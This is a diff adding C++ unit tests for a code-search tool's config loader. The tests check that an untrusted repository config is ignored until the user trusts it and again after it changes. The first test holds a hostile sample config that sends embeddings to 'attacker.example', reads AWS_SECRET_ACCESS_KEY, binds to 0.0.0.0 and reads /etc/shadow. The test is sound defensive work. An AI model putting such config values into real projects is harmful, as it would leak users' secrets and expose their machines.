@@ -29,12 +29,87 @@ class OptionsTest : public ::testing::Test {
   Result<Options> Load(std::map<std::string, std::string> overrides = {}) {
     LoadOptionsRequest req;
     req.root = dir_.string();
+    req.user_config_dir = (dir_ / "user").string();
     req.overrides = std::move(overrides);
     req.read_environment = true;
     return LoadOptions(req);
   }
   fs::path dir_;
 };
+
+// A repository's own config cannot send data off the machine, read secrets or follow
+// symlinks out of the tree until the user trusts it as it is; then it can, until it
+// changes. The user's own config and --config are trusted.
+TEST_F(OptionsTest, RepositoryConfigIsTrustedOnlyAsTheUserTrustedIt) {
+  const std::string hostile =
+      "indexing:\n  follow_symlinks: true\n  max_file_size_kb: 7\nembeddings:\n  provider: openai\n"
+      "  url: http://attacker.example/v1\n  api_key_env: AWS_SECRET_ACCESS_KEY\n  model: m\n"
+      "server:\n  host: 0.0.0.0\n  token_file: /etc/shadow\n";
+  Write(".trawl.yaml", hostile);
+  auto o = Load();
+  ASSERT_TRUE(o.ok()) << o.status().ToString();
+  EXPECT_FALSE(o->indexing.follow_symlinks);
+  EXPECT_EQ(o->embeddings.provider, "hash");
+  EXPECT_EQ(o->embeddings.url, "");
+  EXPECT_EQ(o->embeddings.api_key_env, "");
+  EXPECT_EQ(o->server.host, "127.0.0.1");
+  EXPECT_EQ(o->server.token_file, "");
+  EXPECT_EQ(o->indexing.max_file_size_kb, 7);  // the harmless rest applies
+  EXPECT_EQ(o->embeddings.model, "m");
+  ASSERT_EQ(o->ignored_settings.size(), 6u);
+  EXPECT_THAT(o->ignored_settings[0], HasSubstr("indexing.follow_symlinks (" + (dir_ / ".trawl.yaml").string() + ":2)"));
+
+  ASSERT_TRUE(TrustConfig((dir_ / ".trawl.yaml").string(), (dir_ / "user").string()).ok());
+  o = Load();
+  ASSERT_TRUE(o.ok());
+  EXPECT_TRUE(o->ignored_settings.empty());
+  EXPECT_EQ(o->embeddings.url, "http://attacker.example/v1");
+  EXPECT_TRUE(o->indexing.follow_symlinks);
+
+  // Changed after it was trusted: untrusted again.
+  Write(".trawl.yaml", hostile + "search:\n  k: 5\n");
+  o = Load();
+  ASSERT_TRUE(o.ok());
+  EXPECT_EQ(o->embeddings.url, "");
+  EXPECT_EQ(o->ignored_settings.size(), 6u);
+
+  // The user's own config, and a file named with --config, are the user's choice.
+  fs::create_directories(dir_ / "user");
+  Write("user/config.yaml", "embeddings:\n  provider: ollama\n  url: http://127.0.0.1:11434\n");
+  o = Load();
+  ASSERT_TRUE(o.ok());
+  EXPECT_EQ(o->embeddings.provider, "ollama");
+  EXPECT_EQ(o->embeddings.url, "http://127.0.0.1:11434");
+  fs::remove(dir_ / "user/config.yaml");
+  LoadOptionsRequest named;
+  named.root = dir_.string();
+  named.user_config_dir = (dir_ / "user").string();
+  named.config_file = (dir_ / ".trawl.yaml").string();
+  o = LoadOptions(named);
+  ASSERT_TRUE(o.ok());
+  EXPECT_EQ(o->embeddings.url, "http://attacker.example/v1");
+  EXPECT_TRUE(o->ignored_settings.empty());
+
+  // Bad values of ignored settings are still errors.
+  Write(".trawl.yaml", "embeddings:\n  provider: magic\n");
+  EXPECT_FALSE(Load().ok());
+}
+
+TEST_F(OptionsTest, DuplicateKeysListsAndChunkLimitsAreCheckedAtLoad) {
+  Write(".trawl.yaml", "indexing:\n  max_file_size_kb: 2\n  max_file_size_kb: 3\n");
+  auto o = Load();
+  ASSERT_FALSE(o.ok());
+  EXPECT_EQ(o.status().code(), StatusCode::kInvalidArgument);
+  EXPECT_THAT(o.status().message(), HasSubstr(":3: 'indexing.max_file_size_kb' is set twice"));
+  Write(".trawl.yaml", "ignore:\n  patterns: '*.log'\n");
+  o = Load();
+  ASSERT_FALSE(o.ok());
+  EXPECT_THAT(o.status().message(), HasSubstr("ignore.patterns: expected a list of strings"));
+  Write(".trawl.yaml", "chunking:\n  min_chunk_chars: 5000\n  max_chunk_chars: 3000\n");
+  o = Load();
+  ASSERT_FALSE(o.ok());
+  EXPECT_THAT(o.status().message(), HasSubstr("chunking.min_chunk_chars (5000) must not exceed"));
+}
 
 TEST_F(OptionsTest, DefaultsWithoutConfig) {
   auto o = Load();
